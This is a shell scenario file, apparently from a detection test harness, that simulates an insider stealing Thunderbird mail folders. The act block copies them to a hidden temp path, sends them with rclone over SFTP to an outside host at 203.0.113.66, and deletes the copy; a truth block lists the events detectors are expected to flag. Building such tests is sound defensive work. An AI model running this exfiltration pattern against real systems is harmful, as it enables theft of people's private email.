# The client's own folders, not the server's.
title="Thunderbird's local folders copied aside and sent away with rclone"
what="Somebody with clerk's login copies the Thunderbird profile's Mail folder to /var/tmp under a dull name and lets rclone copy it by SFTP to 203.0.113.66, then removes the copy."
host=ws3.example.org user=clerk daemons="cron sshd"

setup() {
  outside_sshd
  local mail="/home/clerk/.thunderbird/q7w2.default-release/Mail/Local Folders"
  mkdir -p "$mail"
  for box in Inbox Sent Archives; do
    for n in $(seq 1 40); do printf 'From - Mon Nov 16 09:%02d:00 2026\nFrom: person%s@example.net\nTo: clerk@example.org\nSubject: %s %s\n\nText of message %s.\n\n' "$n" "$n" "$box" "$n" "$n"; done > "$mail/$box"
    : > "$mail/$box.msf"
  done
  mkdir -p "$base/out/in"
  chown -R clerk: /home/clerk/.thunderbird
}
act() {
  small_talk 2
  ssh_as clerk <<'L'
cp -r .thunderbird/q7w2.default-release/Mail /var/tmp/.pk
%sleep 3
rclone copy /var/tmp/.pk :sftp,host=drop.example.net,port=2222,user=root,key_file=/home/clerk/.ssh/id_out:/tmp/in-pk 2>/dev/null
rm -rf /var/tmp/.pk
L
  rm -rf /tmp/in-pk
  small_talk 1
}
truth() {
  file_step read 'cp openat:read NORMAL .*Local Folders/Inbox' 'the folders are copied'
  exec_step transfer 'rclone copy /var/tmp/.pk' 'and sent away'
  net_step connect 'rclone 203.0.113.66:2222' 'to an address outside'
}
